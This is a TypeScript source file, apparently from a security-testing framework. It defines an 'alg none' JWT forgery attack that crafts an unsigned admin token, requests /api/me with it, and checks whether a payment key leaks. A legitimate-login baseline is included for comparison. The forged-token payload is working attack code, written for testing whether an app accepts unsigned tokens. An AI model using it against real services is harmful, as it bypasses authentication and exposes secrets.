import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'
import { logIn } from '../../attack/attacker.ts'

/** Writes itself a token that says it needs no signature. */
export const tokenNone: Attack = defineAttack({
  id: 'token-none',
  class: 'broken-authentication',
  title: 'Writes itself a token that says it needs no signature',
  cwe: 347,
  capec: 473,
  technique: 'T1606',
  preconditions: [],

  steps: ({ visitor }) => {
    const part = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString('base64url')
    const token = `${part({ alg: 'none', typ: 'JWT' })}.${part({ name: 'admin', role: 'admin' })}.`
    return visitor.get('/api/me', { authorization: `Bearer ${token}` })
  },
  oracle: (answer, { witness }) => answer.text.includes(witness.loot.paymentKey),
  twin: async ({ visitor }) => {
    await logIn(visitor)
    const { token } = JSON.parse((await visitor.get('/api/token')).text || '{}') as {
      readonly token?: string
    }
    return visitor.get('/api/me', { authorization: `Bearer ${token ?? ''}` })
  },
})
